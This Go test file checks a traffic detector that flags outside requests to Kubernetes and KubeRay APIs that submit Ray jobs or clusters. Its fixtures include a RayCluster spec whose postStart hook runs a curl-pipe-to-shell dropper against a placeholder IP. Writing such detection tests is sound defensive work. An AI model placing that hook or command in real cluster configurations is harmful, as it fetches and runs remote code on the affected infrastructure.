package jobsubmit

import (
	"strings"
	"testing"

	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
)

// object is one that is asked of Kubernetes or of KubeRay's API server.
func object(src, target, body string, status int) hop {
	return hop{src: src, dst: head + ":8001", target: target, header: curl, body: body, status: status, server: "x", got: `{"apiVersion":"ray.io/v1"}`}
}

func TestObjectsFromOutside(t *testing.T) {
	const (
		jobs     = "/apis/ray.io/v1/namespaces/ml/rayjobs"
		clusters = "/apis/ray.io/v1/namespaces/ml/rayclusters"
		quiet    = `{"metadata":{"name":"a"},"spec":{"entrypoint":"python train.py"}}`
		image    = `{"metadata":{"name":"a"},"spec":{"headGroupSpec":{"template":{"spec":{"containers":[{"name":"h","image":"198.51.100.77/ray"}]}}}}}`
		hook     = `{"metadata":{"name":"a"},"spec":{"headGroupSpec":{"template":{"spec":{"containers":[{"name":"h","image":"i","lifecycle":{"postStart":{"exec":{"command":["sh","-c","curl http://198.51.100.77/x | sh"]}}}}]}}}}}`
	)
	for name, x := range map[string]struct {
		h    hop
		want map[string]detectors.Severity
		says string
	}{
		"job": {object(attacker, jobs, quiet, 201), map[string]detectors.Severity{"jobsubmit/external": detectors.Critical},
			"203.0.113.66 had a job run by the Kubernetes API at 10.20.0.10:8001 as RayJob ml/a: python train.py"},
		"refused": {object(attacker, jobs, quiet, 403), map[string]detectors.Severity{"jobsubmit/external": detectors.Medium},
			"tried to have a job run by the Kubernetes API at 10.20.0.10:8001 as RayJob ml/a: python train.py (rejected, 403)"},
		"no answer": {object(attacker, jobs, quiet, 0), map[string]detectors.Severity{"jobsubmit/external": detectors.High}, "(no answer seen)"},
		"cluster": {object(attacker, clusters, image, 201), map[string]detectors.Severity{"jobsubmit/external": detectors.Critical},
			"had a Ray cluster run by the Kubernetes API at 10.20.0.10:8001 as RayCluster ml/a: image 198.51.100.77/ray"},
		"hook": {object(attacker, clusters, hook, 201), map[string]detectors.Severity{"jobsubmit/external": detectors.Critical, "jobsubmit/dropper": detectors.Critical},
			"as RayCluster ml/a: sh -c curl http://198.51.100.77/x | sh"},
		"dropper inside": {object(dev, clusters, hook, 201), map[string]detectors.Severity{"jobsubmit/dropper": detectors.High}, "pipes a download into a shell"},
		"KubeRay": {object(attacker, "/apis/v1/namespaces/ml/jobsubmissions/rc", `{"entrypoint":"id"}`, 200), map[string]detectors.Severity{"jobsubmit/external": detectors.Critical},
			"had a job run by the KubeRay API server at 10.20.0.10:8001 as RayCluster ml/rc: id"},
		"inside":      {object(dev, jobs, quiet, 201), nil, ""},
		"batch":       {object(attacker, "/apis/batch/v1/namespaces/ml/jobs", quiet, 201), nil, ""},
		"replicas":    {object(attacker, clusters, "", 200), nil, ""},
		"dry run":     {object(attacker, jobs+"?dryRun=All", quiet, 201), nil, ""},
		"application": {object(attacker, "/apis/ray.io/v1/namespaces/ml/rayservices", `{"spec":{"serveConfigV2":"import_path: m:a\n"}}`, 201), nil, ""}, // rayapi tells of it
	} {
		if name == "replicas" {
			x.h.target += "/a"
			x.h.change = func(t *http.Transaction) { t.Request.Method = "PATCH" }
			x.h.body = `{"spec":{"suspend":false}}`
		}
		got := watch(t, x.h)
		if len(got) != len(x.want) {
			t.Errorf("%s: %v", name, got)
			continue
		}
		said := ""
		for _, f := range got {
			if f.Severity != x.want[f.Rule] {
				t.Errorf("%s: %s is %v", name, f.Rule, f.Severity)
			}
			said += f.Msg + "\n"
		}
		if !strings.Contains(said, x.says) {
			t.Errorf("%s: %s", name, said)
		}
	}
}
